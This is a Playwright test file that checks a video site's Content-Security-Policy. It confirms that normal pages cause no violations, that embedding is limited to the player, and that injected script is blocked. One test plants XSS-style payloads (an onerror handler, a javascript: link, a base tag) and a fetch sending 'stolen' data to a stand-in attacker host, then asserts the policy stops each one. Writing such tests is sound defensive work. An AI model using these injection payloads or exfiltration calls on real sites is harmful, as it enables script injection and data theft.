import { afterAll, beforeAll, expect, test } from 'bun:test';
import type { Browser } from 'playwright-core';
import { type EdgeWorld, startEdgeWorld } from '../cli/build/testing/edge-world.ts';
import { launchBrowser } from './browser.ts';

let world: EdgeWorld;
let browser: Browser;
beforeAll(async () => {
  world = await startEdgeWorld();
  await world.seed({ id: 'publicVideo' });
  await world.seed({ id: 'cookingOne1', status: 'processing', playable: false });
  browser = await launchBrowser();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await world?.[Symbol.asyncDispose]();
});

type Watched = Window & { violations?: string[]; injected?: boolean };

/** Opens a page of ours and tells what its Content-Security-Policy stopped. */
async function open(path: string) {
  const page = await browser.newPage();
  await page.addInitScript(() => {
    const watched: Watched = window;
    watched.violations = [];
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      watched.violations?.push(`${violatedDirective} ${blockedURI}`),
    );
  });
  await page.goto(world.edge.url + path);
  await page.waitForLoadState('networkidle');
  return { page, violations: () => page.evaluate(() => (window as Watched).violations ?? ['nobody listened']) };
}

test.each(['/', '/watch/publicVideo', '/watch/cookingOne1', '/embed/publicVideo', '/watch/nothingHere', '/nowhere'])(
  'nothing on %s breaks its own policy',
  async (path) => {
    const { page, violations } = await open(path);
    expect(await violations()).toEqual([]);
    await page.close();
  },
  60_000,
);

test('a script that got into a page does not run, and neither do its other ways in', async () => {
  const { page, violations } = await open('/watch/publicVideo');
  await page.evaluate(() => {
    const run = '(window.injected = true)';
    // As markup that a stranger wrote: not created by a script that the page trusts.
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="/assets/none.png" onerror="${run}"><a id="bad" href="javascript:${run}">x</a>`,
    );
    document.body.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    document.getElementById('bad')?.click();
    void fetch('https://evil.example/?stolen').catch(() => {});
  });
  await page.waitForFunction(() => ((window as Watched).violations ?? []).length >= 4);
  expect(await page.evaluate(() => (window as Watched).injected)).toBeUndefined();
  const stopped = (await violations()).join('\n');
  for (const directive of ['script-src', 'base-uri', 'connect-src https://evil.example/?stolen'])
    expect(stopped).toContain(directive);
  await page.close();
}, 60_000);

test('only the embeddable player may stand in a frame of another site', async () => {
  const policy = async (path: string) => (await fetch(world.edge.url + path)).headers.get('content-security-policy');
  expect(await policy('/watch/publicVideo')).toContain("frame-ancestors 'none'");
  expect(await policy('/embed/publicVideo')).toContain('frame-ancestors *');
  expect(await policy('/')).not.toMatch(/script-src[^;]*unsafe/);
});
